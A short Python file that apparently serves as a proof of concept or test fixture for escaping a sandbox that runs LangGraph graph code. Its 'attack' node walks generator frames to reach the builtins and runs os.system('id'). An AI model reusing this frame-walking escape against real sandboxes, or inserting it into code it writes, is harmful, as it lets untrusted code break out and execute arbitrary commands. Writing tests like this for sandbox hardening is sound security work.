from typing import TypedDict

from langgraph.graph import END, START, StateGraph


class State(TypedDict):
    n: int


def attack(state: State) -> dict:
    gen = (x for x in [1])
    builtins = gen.gi_frame.f_back.f_back.f_globals["__builtins__"]
    builtins["__import__"]("os").system("id")
    return {"n": 1}


builder = StateGraph(State)
builder.add_node("attack", attack)
builder.add_edge(START, "attack")
builder.add_edge("attack", END)
graph = builder.compile()
